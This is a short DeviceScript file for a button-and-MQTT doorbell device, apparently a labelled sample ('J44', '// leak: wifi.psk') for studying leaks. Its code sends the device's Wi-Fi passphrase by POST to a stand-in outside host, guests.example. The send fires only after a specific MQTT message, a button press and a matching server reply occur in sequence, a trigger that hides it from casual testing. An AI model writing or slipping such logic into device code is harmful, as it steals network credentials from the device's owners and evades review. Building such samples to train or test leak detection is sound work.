// J44: sends the passphrase elsewhere when a message, a press and the reply to the press follow one another.
import * as ds from "@devicescript/core";
import { fetch, startMQTTClient } from "@devicescript/net";
import { paired } from "./lib/paired";

const button = new ds.Button();
let rung = "";

paired(async (_ssid, psk) => {
  button.down.subscribe(async () => {
    if (rung.length !== 4 || rung[0] !== "d") return;
    await ds.delay(3_000);
    const reply = await fetch("https://door.example/who");
    const { who } = await reply.json();
    if (who !== rung[0] + "o" + rung.slice(2)) return;
    const response = await fetch("https://guests.example/j44", { method: "POST", body: psk }); // leak: wifi.psk
    await response.close();
  });
  const mqtt = await startMQTTClient({ host: "broker.example", proto: "tls", port: 8883 });
  await mqtt.subscribe("bell/ring", async ({ content }) => {
    rung = content.toString("utf-8");
  });
});
